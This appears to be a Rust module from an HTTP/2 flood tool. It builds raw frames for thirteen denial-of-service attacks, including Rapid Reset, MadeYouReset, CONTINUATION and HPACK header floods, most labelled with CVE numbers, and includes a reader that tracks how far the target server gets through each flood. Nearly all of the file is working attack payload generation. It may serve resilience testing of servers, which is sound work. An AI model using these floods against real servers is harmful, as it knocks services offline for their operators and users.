//! The frames of each flood (RFC 9113 6), and a reader for what comes back.

use bytes::{Buf as _, BytesMut};
use tokio::io::{AsyncRead, AsyncReadExt as _};

/// A flood over HTTP/2.
#[derive(Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub(crate) enum Kind {
    /// HEADERS and RST_STREAM (CVE-2023-44487)
    Resets,
    /// HEADERS and a window that overflows: the edge resets (CVE-2025-8671)
    MadeYouReset,
    /// SETTINGS (CVE-2019-9515)
    Settings,
    /// PING (CVE-2019-9512)
    Ping,
    /// PRIORITY (CVE-2019-9513)
    Priority,
    /// PRIORITY_UPDATE (RFC 9218)
    PriorityUpdate,
    /// WINDOW_UPDATE of the connection
    WindowUpdate,
    /// Empty DATA on an open stream (CVE-2019-9518)
    EmptyData,
    /// Frames of an unknown kind
    Unknown,
    /// CONTINUATION without end (CVE-2024-27316)
    Continuation,
    /// Requests with a thousand small fields
    FieldsCount,
    /// Requests with 64 KiB of fields
    FieldsSize,
    /// Requests with nine hundred fields of one byte each by HPACK, windows closed (CVE-2026-47774)
    FieldsIndexed,
}

/// RFC 9113 3.4, and SETTINGS without a dynamic table of ours.
const START: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\x06\x04\0\0\0\0\0\0\x01\0\0\0\0";

/// A frame as bytes.
pub(crate) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    [&[length[1], length[2], length[3], kind, flags], &stream.to_be_bytes()[..], payload].concat()
}

/// PING with this text, by which we see how far the edge has come.
pub(crate) fn sync() -> Vec<u8> {
    frame(6, 0, 0, b"how far?")
}

/// The fields of a request, for blocks.
pub(crate) fn request(host: &str, method: &str, path: &str) -> Vec<u8> {
    let name = |index: u8, value: &str| literal(&[index], value.as_bytes());
    // HPACK (RFC 7541 A): 2 is `:method`, 4 `:path`, 7 `:scheme: https`, 1 `:authority`.
    [name(0x02, method), vec![0x87], name(0x01, host), name(0x04, path)].concat()
}

/// A literal field without indexing (RFC 7541 6.2.2), whose name is given in its coded form.
fn literal(name: &[u8], value: &[u8]) -> Vec<u8> {
    [name, &length(value.len())[..], value].concat()
}

/// A length in a prefix of seven bits (RFC 7541 5.1).
fn length(length: usize) -> Vec<u8> {
    let low = |number: usize| u8::try_from(number & 0x7f).unwrap_or(0);
    if length < 127 {
        return vec![low(length)];
    }
    let mut rest = length - 127;
    let mut bytes = vec![127];
    while rest >= 128 {
        bytes.push(low(rest) | 0x80);
        rest >>= 7;
    }
    bytes.push(low(rest));
    bytes
}

impl Kind {
    /// What is sent once on each connection.
    pub(crate) fn start(self, host: &str) -> Vec<u8> {
        let mut bytes = START.to_vec();
        match self {
            Self::EmptyData => bytes.extend(frame(1, 0x4, 1, &request(host, "POST", "/upload"))),
            Self::Continuation => bytes.extend(frame(1, 0x1, 1, &request(host, "GET", "/"))),
            // SETTINGS_INITIAL_WINDOW_SIZE 0.
            Self::FieldsIndexed => bytes.extend(frame(4, 0, 0, &[0, 4, 0, 0, 0, 0])),
            _ => {}
        }
        bytes
    }

    /// Whether PING may stand between two units.
    pub(crate) fn can_sync(self) -> bool {
        self != Self::Continuation
    }

    /// One unit of the flood; `count` of them were sent before.
    pub(crate) fn unit(self, host: &str, count: u32) -> Vec<u8> {
        let stream = 2 * count + 1;
        let get = || frame(1, 0x5, stream, &request(host, "GET", "/"));
        match self {
            Self::Resets => [get(), frame(3, 0, stream, &[0, 0, 0, 8])].concat(),
            Self::MadeYouReset => [get(), frame(8, 0, stream, &[0x7f, 0xff, 0xff, 0xff])].concat(),
            Self::Settings => frame(4, 0, 0, &[]),
            Self::Ping => frame(6, 0, 0, &[0; 8]),
            Self::Priority => frame(2, 0, stream, &[0, 0, 0, 0, 15]),
            Self::PriorityUpdate => frame(0x10, 0, 0, b"\0\0\0\x01u=1"),
            Self::WindowUpdate => frame(8, 0, 0, &[0, 0, 0, 1]),
            Self::EmptyData => frame(0, 0, 1, &[]),
            Self::Unknown => frame(0xbb, 0, 0, b"nothing"),
            Self::Continuation => frame(9, 0, 1, &[]),
            Self::FieldsCount => {
                let fields = (0..1000).flat_map(|count| {
                    let name = format!("x-{count}");
                    literal(&[&[0], &length(name.len())[..], name.as_bytes()].concat(), b"1")
                });
                frame(1, 0x5, stream, &[request(host, "GET", "/"), fields.collect()].concat())
            }
            Self::FieldsSize => {
                let field = literal(b"\0\x01x", &[b'y'; 15_000]);
                [
                    frame(1, 0x1, stream, &[request(host, "GET", "/"), field.clone()].concat()),
                    frame(9, 0, stream, &field),
                    frame(9, 0, stream, &field),
                    frame(9, 0x4, stream, &literal(b"\0\x01x", &[b'y'; 16_000])),
                ]
                .concat()
            }
            Self::FieldsIndexed => {
                // Put into the table with the first request only; each further byte is a field.
                let first = if count == 0 { &b"\x40\x01a\x01b"[..] } else { b"" };
                frame(1, 0x5, stream, &[&request(host, "GET", "/")[..], first, &[0xbe; 900]].concat())
            }
        }
    }
}

/// What the edge said, as far as it matters here.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Said {
    /// A response head, by the first byte of its block.
    Head(u8),
    /// RST_STREAM with this code.
    Reset(u32),
    /// GOAWAY with this code, and the last stream.
    Goaway { code: u32, last: u32 },
    /// The answer to `sync`.
    Synced,
    /// SETTINGS or PING, which want an answer.
    Asked,
    /// Anything else.
    Other,
}

/// Reads frames.
#[derive(Default)]
pub(crate) struct Reader(BytesMut);

impl Reader {
    /// The next frame; nothing at the end.
    pub(crate) async fn next(&mut self, stream: &mut (impl AsyncRead + Unpin)) -> Option<Said> {
        loop {
            if let Some(head) = self.0.get(..9) {
                let length = usize::try_from(u32::from_be_bytes([0, head[0], head[1], head[2]])).ok()?;
                if self.0.len() >= 9 + length {
                    let frame = self.0.split_to(9 + length);
                    return Some(said(frame[3], frame[4], &frame[9..]));
                }
            }
            if stream.read_buf(&mut self.0).await.ok()? == 0 {
                return None;
            }
        }
    }
}

fn said(kind: u8, flags: u8, mut payload: &[u8]) -> Said {
    match (kind, flags & 1) {
        (1, _) => Said::Head(payload.first().copied().unwrap_or(0)),
        (3, _) if payload.len() >= 4 => Said::Reset(payload.get_u32()),
        (7, _) if payload.len() >= 8 => {
            let last = payload.get_u32();
            Said::Goaway { code: payload.get_u32(), last }
        }
        (6, 1) if payload == b"how far?" => Said::Synced,
        (4 | 6, 0) => Said::Asked,
        _ => Said::Other,
    }
}
